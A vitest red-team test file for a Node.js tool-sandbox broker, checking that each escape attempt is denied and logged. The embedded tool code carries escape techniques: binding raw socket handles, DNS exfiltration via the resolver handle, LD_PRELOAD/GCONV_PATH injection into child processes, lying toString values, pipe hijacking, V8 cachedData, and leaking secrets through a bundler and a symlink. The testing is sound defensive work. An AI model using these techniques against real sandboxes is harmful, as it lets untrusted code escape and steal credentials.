/**
 * A third red-team pass at the broker, at the layer below the functions it wraps: the handles the
 * wrapped functions drive, which tool code can drive itself, and what a granted program is started
 * with. Each attack is a tool file run through the built CLI in `amber session --sandbox` with a
 * jail, a granted host name (so tool code can get a socket handle at all) and a granted program;
 * each must be refused with the broker's error, leave a `Deny` line, reach nothing, and leave the
 * session answering.
 * - a UDP or TCP handle that libuv binds by itself (a receive, a listen, a group join on a socket
 *   never bound) listened on every interface with no check;
 * - the resolver's handle (c-ares's channel) took servers and queries past the `dns` functions:
 *   arbitrary datagrams to any address and port;
 * - a granted program started with `LD_PRELOAD` (or any loader variable, also through
 *   `process.execve` on Node 22) ran a library the tool wrote, outside every sandbox;
 * - a granted program could be handed the host's own pipes as its stdio, or rewritten through a
 *   write grant before it ran;
 * - a `vm` code cache (`cachedData`) is bytecode V8 runs unchecked;
 * - around the host: the bundler quoted a file out of the jail in its error (a tsconfig's
 *   `extends`) and read the CLI's environment under `--deny-env`, and a `tools.json` shipped as a
 *   link to a directory made everything below it readable.
 */

import { createSocket, type Socket as UdpSocket } from "node:dgram";
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auditLines, buildTestCli, jailedSession, LineClient, scratch } from "./helpers.ts";

/** Per answer: sessions start side by side on shared machines (no timing is asserted). */
const SLOW = 60_000;

const TOOLS = `
const dgram = require("node:dgram");
const dns = require("node:dns");
const net = require("node:net");
const fs = require("node:fs");
const cp = require("node:child_process");
const OUT = __OUT__;
const UDP_PORT = __UDP_PORT__;
const udpHandle = (type) => {
  const socket = dgram.createSocket(type);
  const state = Object.getOwnPropertySymbols(socket).find((k) => k.description === "state symbol");
  return [socket, socket[state].handle];
};
/** A request object of the resolver's handle, taken from a query of the granted name. */
const resolverRequest = () => {
  const resolver = new dns.Resolver();
  let request;
  resolver._handle = { queryA(req) { request = req; return 0; } };
  resolver.resolve4("granted.invalid", () => {});
  const fresh = new request.constructor();
  fresh.oncomplete = () => {};
  return fresh;
};
const bound = (handle) => { const out = {}; handle.getsockname(out); return out; };

export function add({ a, b }) { return a + b; }
export function udpReceiveUnbound() {
  const [, handle] = udpHandle("udp4");
  handle.onmessage = () => {};
  handle.recvStart();
  return bound(handle);
}
export function udpReceiveUnbound6() {
  const [, handle] = udpHandle("udp6");
  handle.onmessage = () => {};
  handle.recvStart();
  return bound(handle);
}
export function udpJoinGroup() {
  const [socket] = udpHandle("udp4");
  socket.addMembership("224.0.0.114");
  return "joined";
}
export function tcpListenUnbound() {
  const socket = net.connect({ host: "granted.invalid", port: 9 });
  socket.on("error", () => {});
  const server = new socket._handle.constructor(1);
  server.onconnection = () => {};
  const error = server.listen(511);
  return { error, ...bound(server) };
}
export function resolverServersByHandle() {
  const resolver = new dns.Resolver();
  resolver._handle.setServers([[4, "127.0.0.1", UDP_PORT]]);
  resolver._handle.queryTxt(resolverRequest(), "granted.invalid");
  return "sent";
}
export function resolverQueryByHandle() {
  const resolver = new dns.Resolver();
  resolver._handle.queryTxt(resolverRequest(), "exfiltrated.example");
  return "sent";
}
export function resolverLyingServer() {
  const resolver = new dns.Resolver();
  let n = 0;
  const lying = { toString: () => (n++ === 0 ? "192.0.2.1" : "127.0.0.1") };
  resolver._handle.setServers([[4, lying, UDP_PORT]]);
  return resolver._handle.getServers();
}
export function resolverLocalAddress() { new dns.Resolver().setLocalAddress("0.0.0.0"); return "bound"; }
export function preloadSpawnSync() {
  return String(cp.spawnSync("true", [], { env: { LD_PRELOAD: OUT + "/evil.so" } }).status);
}
export function preloadExecFileSync() {
  return String(cp.execFileSync("true", [], { env: { LD_LIBRARY_PATH: OUT } }));
}
export function preloadExecSync() { return String(cp.execSync("ignored", { shell: "true", env: { GCONV_PATH: OUT } })); }
export function preloadSpawn() {
  return new Promise((res, rej) => {
    const child = cp.spawn("true", [], { env: { LD_AUDIT: OUT + "/evil.so" } });
    child.on("error", rej);
    child.on("exit", (code) => res(code));
  });
}
export function preloadInheritedEnvironment() {
  Object.defineProperty(process.env, "LD_PRELOAD", { value: OUT + "/evil.so", enumerable: true, configurable: true, writable: true });
  return String(cp.execFileSync("true"));
}
export function preloadInheritedRawHandle() {
  Object.defineProperty(process.env, "LD_PRELOAD", { value: OUT + "/evil.so", enumerable: true, configurable: true, writable: true });
  const handle = new cp.ChildProcess()._handle;
  handle.onexit = () => {};
  const ignore = { type: "ignore" };
  return handle.spawn({ file: "true", args: ["true"], stdio: [ignore, ignore, ignore] });
}
export function preloadInheritedPrototype() {
  const env = Object.create({ LD_PRELOAD: OUT + "/evil.so" });
  return String(cp.spawnSync("true", [], { env }).status);
}
/** A key with "=" in it: the child's C library reads the name up to the first "=". */
export function loaderNameInKey() {
  return String(cp.spawnSync("true", [], { env: { ["GCONV_PATH=" + OUT]: "" } }).status);
}
export function preloadLyingPair() {
  let n = 0;
  const pair = { toString: () => (n++ === 0 ? "LD_PRELOAD=" + OUT + "/evil.so" : "HARMLESS=1") };
  const handle = new cp.ChildProcess()._handle;
  handle.onexit = () => {};
  const ignore = { type: "ignore" };
  return handle.spawn({ file: "true", args: ["true"], envPairs: [pair], stdio: [ignore, ignore, ignore] });
}
/** A value that is the user's when checked and the tool's when used: the child gets the checked one. */
export function lyingValue() {
  let n = 0;
  const value = { toString: () => (n++ === 0 ? "/nonexistent-amber-lib" : OUT) };
  return String(cp.spawnSync("printenv", ["LD_LIBRARY_PATH"], { env: { LD_LIBRARY_PATH: value } }).stdout);
}
export function execvePreload() { process.execve("true", ["true"], { LD_PRELOAD: OUT + "/evil.so" }); return "replaced"; }
export function execveInherited() {
  Object.defineProperty(process.env, "LD_PRELOAD", { value: OUT + "/evil.so", enumerable: true, configurable: true, writable: true });
  process.execve("true", ["true"]);
  return "replaced";
}
export function udp6Socket() { const socket = dgram.createSocket("udp6"); socket.close(); return "made"; }
// The host's own pipes (3: its channel to the CLI, 4: calls, 5: answers) handed to a child.
export function childInheritsPipes() {
  return String(cp.spawnSync("true", [], { stdio: ["ignore", "ignore", "ignore", "inherit", "inherit", "inherit"] }).status);
}
export function childStdoutIsChannel() {
  return new Promise((res, rej) => {
    const child = cp.spawn("printenv", ["X"], { env: { X: '{"t":"result","id":1,"ok":true}' }, stdio: ["ignore", 3, "ignore"] });
    child.on("error", rej);
    child.on("exit", (code) => res(code));
  });
}
export function childWrappedNumber() { return String(cp.spawnSync("true", [], { stdio: ["ignore", "ignore", "ignore", 2 ** 32 + 5] }).status); }
export function childLyingFd() {
  let n = 0;
  const lying = { get fd() { return n++ === 0 ? 4 : 1; } };
  return String(cp.spawnSync("true", [], { stdio: ["ignore", lying, "ignore"] }).status);
}
export function childGetsCallsSocket() {
  const calls = process._getActiveHandles().find((h) => h && h._handle && h._handle.fd === 4);
  if (!calls) return "no calls socket";
  const child = cp.spawn("true", [], { stdio: ["ignore", calls, "ignore"] });
  child.on("error", () => {});
  return "spawned";
}
export function childRawHandleFd() {
  const handle = new cp.ChildProcess()._handle;
  handle.onexit = () => {};
  const ignore = { type: "ignore" };
  return handle.spawn({ file: "true", args: ["true"], stdio: [ignore, { type: "fd", fd: 2 ** 32 + 3 }, ignore] });
}
// A code cache is bytecode V8 runs unchecked: crafted, it is native code past every check.
const vm = require("node:vm");
const cache = () => new vm.Script("1 + 1", { produceCachedData: true }).createCachedData();
export function scriptCachedData() { return new vm.Script("1 + 1", { cachedData: cache() }).runInThisContext(); }
export function runInThisContextCachedData() { return vm.runInThisContext("1 + 1", { cachedData: cache() }); }
export function compileFunctionCachedData() { return vm.compileFunction("return 1", [], { cachedData: cache() })(); }
export function runInNewContextCachedData() { return vm.runInNewContext("1 + 1", {}, { cachedData: cache() }); }
export function lyingCachedData() {
  let n = 0;
  const options = { get cachedData() { return n++ === 0 ? undefined : cache(); } };
  return new vm.Script("1 + 1", options).cachedDataRejected ?? "no cache";
}
export function vmStillRuns() { return [new vm.Script("1 + 1").runInThisContext(), vm.runInNewContext("2 + 2"), cache().length > 0]; }
export function runGranted() { return String(cp.spawnSync("true", [], { env: { HARMLESS: "1" } }).status); }
export function runGrantedInheriting() { return String(cp.spawnSync("true").status); }
export function runGrantedChangedVariable() {
  return String(cp.spawnSync("true", [], { env: { LD_LIBRARY_PATH: OUT } }).status);
}
`;

// [tool, the error it must end with]
const ATTEMPTS: [string, RegExp][] = [
  ["udpReceiveUnbound", /^permission denied: Network Listen 0\.0\.0\.0:0$/],
  ["udpReceiveUnbound6", /^permission denied: Network Listen 0\.0\.0\.0:0$/],
  ["udpJoinGroup", /^permission denied: Network Listen 0\.0\.0\.0:0$/],
  ["tcpListenUnbound", /^permission denied: Network Listen 0\.0\.0\.0:0$/],
  ["resolverServersByHandle", /^permission denied: Network Connect 127\.0\.0\.1:\d+$/],
  ["resolverQueryByHandle", /^permission denied: Network Connect exfiltrated\.example$/],
  ["resolverLyingServer", /^permission denied: Network Connect 192\.0\.2\.1:\d+$/],
  ["resolverLocalAddress", /^permission denied: Network Listen 0\.0\.0\.0:0$/],
  ["preloadSpawnSync", /^permission denied: Process Execute env:LD_PRELOAD$/],
  ["preloadExecFileSync", /^permission denied: Process Execute env:LD_LIBRARY_PATH$/],
  ["preloadExecSync", /^permission denied: Process Execute env:GCONV_PATH$/],
  ["preloadSpawn", /^permission denied: Process Execute env:LD_AUDIT$/],
  ["preloadInheritedEnvironment", /^permission denied: Process Execute env:LD_PRELOAD$/],
  ["preloadInheritedRawHandle", /^permission denied: Process Execute env:LD_PRELOAD$/],
  ["preloadInheritedPrototype", /^permission denied: Process Execute env:LD_PRELOAD$/],
  ["preloadLyingPair", /^permission denied: Process Execute env:LD_PRELOAD$/],
  ["loaderNameInKey", /^permission denied: Process Execute env:GCONV_PATH$/],
  ["scriptCachedData", /^permission denied: Process Execute vm\.cachedData$/],
  ["runInThisContextCachedData", /^permission denied: Process Execute vm\.cachedData$/],
  ["compileFunctionCachedData", /^permission denied: Process Execute vm\.cachedData$/],
  ["runInNewContextCachedData", /^permission denied: Process Execute vm\.cachedData$/],
  ["childInheritsPipes", /^permission denied: FileSystem Write fd:3$/],
  ["childStdoutIsChannel", /^permission denied: FileSystem Write fd:3$/],
  ["childWrappedNumber", /^permission denied: FileSystem Write fd:5$/],
  ["childLyingFd", /^permission denied: FileSystem Write fd:4$/],
  ["childGetsCallsSocket", /^permission denied: FileSystem Write fd:4$/],
  ["childRawHandleFd", /^permission denied: FileSystem Write fd:3$/],
];

describe("sandbox red team: handles below the checked functions, and a granted program's loader", () => {
  let bin: string;
  let dir: string;
  let udp: UdpSocket;
  let client: LineClient;
  const reached: string[] = [];

  beforeAll(async () => {
    ({ bin } = await buildTestCli());
    dir = scratch({ "jail/data.txt": "inside" });
    mkdirSync(join(dir, "jail/out"));
    udp = createSocket("udp4");
    udp.on("message", (message) => reached.push(message.toString("latin1")));
    await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
    writeFileSync(
      join(dir, "tools.js"),
      TOOLS.replace("__OUT__", JSON.stringify(join(dir, "jail/out"))).replace(
        "__UDP_PORT__",
        String(udp.address().port),
      ),
    );
    client = jailedSession(
      bin,
      dir,
      [
        ...["--allow-net", "granted.invalid", "--allow-run", "true", "--allow-run", "printenv"],
        ...["--allow-env", "LD_LIBRARY_PATH", "--timeout", "30000"],
        // Each attack on a fresh host: one that changed the host's environment leaves no trace.
        "--isolate-per-call",
        ...["--audit-log", "audit.jsonl", "tools.js"],
      ],
      // The user's own loader variable, granted: a child may inherit it as it is.
      { env: { LD_LIBRARY_PATH: "/nonexistent-amber-lib" } },
    );
  });

  afterAll(async () => {
    await client?.close();
    udp?.close();
  });

  const audit = () => auditLines(join(dir, "audit.jsonl"));

  for (const [tool, expected] of ATTEMPTS) {
    it(
      `${tool}: denied`,
      async () => {
        const response = await client.call(tool, {}, SLOW);
        expect(response.error, JSON.stringify(response)).toMatchObject({
          code: -32000,
          message: expect.stringMatching(expected),
        });
        const message = (response.error as { message: string }).message;
        const [kind, action, resource] = message.replace("permission denied: ", "").split(" ");
        expect(audit()).toContainEqual(expect.objectContaining({ kind, action, resource, decision: "Deny" }));
        // The session is still answering.
        expect((await client.call("add", { a: 20, b: 22 }, SLOW)).result).toBe(42);
      },
      2 * SLOW,
    );
  }

  it("a granted program still runs, with its own environment or the host's as the user gave it", async () => {
    expect(await client.call("runGranted", {}, SLOW)).toMatchObject({ result: "0" });
    expect(await client.call("runGrantedInheriting", {}, SLOW)).toMatchObject({ result: "0" });
    expect(await client.call("lyingValue", {}, SLOW)).toMatchObject({ result: "/nonexistent-amber-lib\n" });
    // The same variable with a value of the tool's is its choice, not the user's.
    expect((await client.call("runGrantedChangedVariable", {}, SLOW)).error).toMatchObject({
      message: "permission denied: Process Execute env:LD_LIBRARY_PATH",
    });
  });

  it("vm runs code as before, and a code cache read once (a getter shows Node what was checked)", async () => {
    expect(await client.call("vmStillRuns", {}, SLOW)).toMatchObject({ result: [2, 4, true] });
    expect(await client.call("lyingCachedData", {}, SLOW)).toMatchObject({ result: "no cache" });
  });

  it("a udp6 socket can be made (Node assigns its handle's methods, which the hooks had made read-only)", async () => {
    expect(await client.call("udp6Socket", {}, SLOW)).toMatchObject({ result: "made" });
  });

  // process.execve (Node ≥ 22.15): the test runner's Node 22, not the machine's.
  it("process.execve passes no loader variable of the tool's to the program that replaces the host", async () => {
    const node22 = jailedSession(
      bin,
      dir,
      ["--allow-run", "true", "--isolate-per-call", "--audit-log", "audit-22.jsonl", "tools.js"],
      { node: process.execPath },
    );
    try {
      for (const tool of ["execvePreload", "execveInherited"]) {
        expect(await node22.call(tool, {}, SLOW), tool).toMatchObject({
          error: { message: "permission denied: Process Execute env:LD_PRELOAD" },
        });
      }
      expect((await node22.call("add", { a: 20, b: 22 }, SLOW)).result).toBe(42);
    } finally {
      await node22.close();
    }
  });

  // esbuild follows a tsconfig's `extends` anywhere on the disk, past the bundle's read checks, and
  // its error quoted the file's first token: a one-line token file out of the jail, whole.
  it("bundling quotes no file out of the jail (a tsconfig extending a token file)", async () => {
    writeFileSync(join(dir, "token.txt"), "ghpTOKEN0123456789secret\n");
    mkdirSync(join(dir, "pkg"));
    writeFileSync(join(dir, "pkg/tsconfig.json"), JSON.stringify({ extends: join(dir, "token.txt") }));
    writeFileSync(join(dir, "pkg/tool.ts"), "export function hi() { return 1; }\n");
    const jailed = new LineClient(
      bin,
      ["session", "--sandbox", "--allow-read", "jail", "--audit-log", "audit-bundle.jsonl", "pkg/tool.ts"],
      { cwd: dir },
    );
    try {
      const response = await jailed.call("hi", {}, SLOW);
      expect(JSON.stringify(response)).not.toContain("ghpTOKEN");
      expect(response.error).toMatchObject({
        message: `permission denied: FileSystem Read ${join(dir, "token.txt")}`,
      });
    } finally {
      await jailed.close();
    }
  });

  // Files open, the environment denied: the bundler (esbuild inherits the CLI's environment) read
  // what the tool at run time may not.
  it("bundling reads no process's environment under an environment restriction", async () => {
    mkdirSync(join(dir, "envpkg"));
    writeFileSync(
      join(dir, "envpkg/tool.js"),
      'import env from "/proc/self/environ" with { type: "text" };\nexport function leak() { return env; }\n',
    );
    const session = new LineClient(
      bin,
      ["session", "--deny-env", "--deny-net", "--audit-log", "audit-env.jsonl", "envpkg/tool.js"],
      { cwd: dir, env: { AMBER_BUNDLE_SECRET: "b0ndl3-s3cr3t" } },
    );
    try {
      const response = await session.call("leak", {}, SLOW);
      expect(JSON.stringify(response)).not.toContain("b0ndl3-s3cr3t");
      expect(response.error).toMatchObject({
        message: expect.stringMatching(/^permission denied: FileSystem Read \/proc\/\d+\/environ$/),
      });
    } finally {
      await session.close();
    }
    expect(readFileSync(join(dir, "audit-env.jsonl"), "utf8")).toContain('"decision":"Deny"');
  });

  // "The entry file and its tools.json are always readable": a tools.json shipped as a link to a
  // directory granted everything below it.
  it("a tools.json that links to a directory grants nothing below it", async () => {
    mkdirSync(join(dir, "keys"));
    writeFileSync(join(dir, "keys/id_key"), "PRIVATE-KEY-77\n");
    mkdirSync(join(dir, "linkpkg"));
    symlinkSync(join(dir, "keys"), join(dir, "linkpkg/tools.json"));
    writeFileSync(
      join(dir, "linkpkg/tool.js"),
      [
        'const fs = require("node:fs");',
        `export function direct() { return fs.readFileSync(${JSON.stringify(join(dir, "keys/id_key"))}, "utf8"); }`,
        'export function viaLink() { return fs.readFileSync(__dirname + "/tools.json/id_key", "utf8"); }',
      ].join("\n"),
    );
    const jailed = new LineClient(bin, ["session", "--sandbox", "linkpkg/tool.js"], { cwd: dir });
    try {
      for (const tool of ["direct", "viaLink"]) {
        const response = await jailed.call(tool, {}, SLOW);
        expect(JSON.stringify(response), tool).not.toContain("PRIVATE-KEY");
        // Refused by the broker (on the file the link names) or Node's model (on the path as given).
        expect(response.error, tool).toMatchObject({
          message: expect.stringMatching(
            /^permission denied: FileSystem Read \/.*(keys|tools\.json)\/id_key$/,
          ),
        });
      }
    } finally {
      await jailed.close();
    }
  });

  // A granted program in a writable grant: rewritten, it ran the tool's code outside the sandbox.
  it("a granted program cannot be rewritten through a write grant", async () => {
    mkdirSync(join(dir, "work"));
    writeFileSync(join(dir, "work/build.sh"), "#!/bin/sh\necho built\n", { mode: 0o755 });
    writeFileSync(
      join(dir, "rewrite.js"),
      [
        'const fs = require("node:fs");',
        'const cp = require("node:child_process");',
        `const SCRIPT = ${JSON.stringify(join(dir, "work/build.sh"))};`,
        'export function rewrite() { fs.writeFileSync(SCRIPT, "#!/bin/sh\\necho PWNED\\n"); return "rewritten"; }',
        'export function replace() { fs.renameSync(SCRIPT, SCRIPT + ".old"); fs.writeFileSync(SCRIPT, "#!/bin/sh\\necho PWNED\\n", { mode: 0o755 }); return "replaced"; }',
        "export function build() { return String(cp.execFileSync(SCRIPT)); }",
      ].join("\n"),
    );
    const session = new LineClient(
      bin,
      [
        ...["session", "--sandbox", "--allow-read", "work", "--allow-write", "work"],
        ...["--allow-run", "./work/build.sh", "--audit-log", "audit-run.jsonl", "rewrite.js"],
      ],
      { cwd: dir },
    );
    try {
      expect(await session.call("rewrite", {}, SLOW)).toMatchObject({
        error: { message: `permission denied: FileSystem Write ${join(dir, "work/build.sh")}` },
      });
      expect(await session.call("replace", {}, SLOW)).toMatchObject({
        error: { message: expect.stringMatching(/^permission denied: FileSystem Write .*build\.sh/) },
      });
      expect(await session.call("build", {}, SLOW)).toMatchObject({ result: "built\n" });
    } finally {
      await session.close();
    }
  });

  it("sent nothing anywhere and made no file of the tool's run", () => {
    expect(reached).toEqual([]);
    expect(existsSync(join(dir, "jail/out/evil.so"))).toBe(false);
  });
});
